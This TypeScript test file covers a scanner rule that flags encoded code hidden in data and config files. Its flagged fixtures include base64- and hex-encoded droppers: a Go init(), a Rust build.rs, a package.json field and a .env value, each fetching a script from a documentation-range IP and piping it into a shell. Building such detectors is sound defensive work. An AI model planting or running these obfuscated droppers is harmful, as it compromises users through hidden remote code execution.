import { createHash, randomBytes } from 'node:crypto';
import { ruleTest } from '../../testing/rule-tester.js';
import rule from './encoded-code-in-data.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const hex = (s: string) => Buffer.from(s).toString('hex');
const sha512 = (s: string) => `sha512-${createHash('sha512').update(s).digest('base64')}`;
// Fixed bytes (a PNG header and noise): what base64 images in JSON decode to.
const png = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 97 + 13) % 256))]).toString('base64');
const jwt = `${Buffer.from('{"alg":"HS256","typ":"JWT"}').toString('base64url')}.${Buffer.from('{"sub":"1234567890","name":"John Doe","iat":1516239022}').toString('base64url')}.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c`;
const dropper = "require('child_process').exec('curl -s http://203.0.113.12/j | sh')";

ruleTest(rule, {
  clean: [
    {
      name: 'Go: an embedded base64 PNG, a SHA-256 hex constant and base64 of a plain message',
      file: 'internal/assets/assets.go',
      code: `package assets\n\nconst Logo = "${png}"\nconst Digest = "${createHash('sha256').update('x').digest('hex')}"\nconst Banner = "${b64('Welcome to the ledger service, see the docs for usage.')}"\n`,
    },
    {
      name: 'Rust build.rs that runs git to embed the version',
      file: 'build.rs',
      code: `use std::process::Command;\nfn main() {\n    let out = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output().unwrap();\n    println!("cargo:rustc-env=GIT_HASH={}", String::from_utf8(out.stdout).unwrap());\n}\n`,
    },
    {
      name: 'lockfile integrity hashes (binary once decoded)',
      file: 'package-lock.json',
      code: JSON.stringify({ packages: Object.fromEntries(Array.from({ length: 50 }, (_, i) => [`node_modules/p${i}`, { version: '1.0.0', integrity: sha512(`p${i}`) }])) }, null, 2),
    },
    { name: 'a base64 PNG in a web manifest', file: 'public/manifest.json', code: JSON.stringify({ icons: [{ src: `data:image/png;base64,${png}` }] }) },
    { name: 'a JWT in a test fixture', file: 'test/fixtures/session.json', code: JSON.stringify({ token: jwt }) },
    { name: 'a Kubernetes secret: base64 of a password and a config', file: 'deploy/secret.yaml', code: `apiVersion: v1\nkind: Secret\ndata:\n  password: ${b64('correct horse battery staple, definitely long enough')}\n  config: ${b64('server:\n  port: 8080\n  host: 0.0.0.0\nlogging: debug\n')}\n` },
    { name: 'base64 of a harmless module (no process, no eval)', file: 'fixtures/module.json', code: JSON.stringify({ source: b64("const path = require('path');\nmodule.exports = path.join('a', 'b');\n") }) },
    { name: 'sha256 hex digests', file: 'checksums.txt', code: `${createHash('sha256').update('a').digest('hex')}  a.tgz\n${createHash('sha256').update('b').digest('hex')}  b.tgz\n` },
    { name: 'random key material', file: '.env', code: `SESSION_SECRET=${randomBytes(48).toString('base64')}\n` },
    { name: 'a notebook is not read by this rule', file: 'analysis.ipynb', code: JSON.stringify({ cells: [{ outputs: [{ data: { 'text/plain': b64(dropper) } }] }] }) },
    { name: 'a dropper in a JavaScript file is for the JS rules', file: 'src/x.js', code: `const s = '${b64(dropper)}';\n` },
    { name: 'a shell command written in plain text is for the autorun rules', file: 'config.json', code: JSON.stringify({ postBuild: 'curl -s https://example.com/install.sh | sh' }) },
  ],
  flagged: [
    {
      name: 'Go init() decoding a base64 bash -c curl | bash (a blank-imported package)',
      file: 'internal/telemetry/telemetry.go',
      code: `package telemetry\n\nimport (\n\t"encoding/base64"\n\t"os/exec"\n)\n\nconst bootstrap = "${b64('curl -fsSL http://203.0.113.41:1244/go/init | bash')}"\n\nfunc init() {\n\tcmd, _ := base64.StdEncoding.DecodeString(bootstrap)\n\texec.Command("bash", "-c", string(cmd)).Start()\n}\n`,
      findings: [{ line: 8, severity: 'high', message: /downloads a script and pipes it into a shell/ }],
    },
    {
      name: 'Rust build.rs: hex of curl | sh run through sh -c',
      file: 'build.rs',
      code: `fn main() {\n    let s = hex_decode("${hex('curl -s http://203.0.113.88/b | sh')}");\n    std::process::Command::new("sh").arg("-c").arg(s).spawn().ok();\n}\n`,
      findings: [{ line: 2, severity: 'high', message: /downloads a script and pipes it into a shell/ }],
    },
    {
      name: 'package.json field holding a base64 dropper (read with require("../package.json"))',
      file: 'package.json',
      code: `{\n  "name": "token-swap",\n  "buildMeta": {\n    "checksum": "${b64(dropper)}"\n  }\n}\n`,
      findings: [{ line: 4, column: 18, severity: 'high', confidence: 'high', message: /Base64 in a data file decodes to code that downloads a script and pipes it into a shell/, decoded: /child_process/ }],
    },
    {
      name: 'hex-encoded eval in a YAML config',
      file: 'config/app.yml',
      code: `app:\n  name: demo\n  theme: ${hex("eval(atob('Y29uc29sZS5sb2coMSk='))")}\n`,
      findings: [{ line: 3, message: /^Hex .* evaluates code/ }],
    },
    {
      name: 'URL-safe base64 of base64 of a Python process launch in a .env file',
      file: '.env.local',
      code: `API_KEY=abc\nDB_HOST=localhost\nLICENSE=${Buffer.from(b64("import os; os.system('curl http://203.0.113.5/p.py -o /tmp/p.py && python3 /tmp/p.py')")).toString('base64url')}\n`,
      findings: [{ line: 3, message: /starts a process/, decoded: /^import os; os\.system/ }],
    },
  ],
});
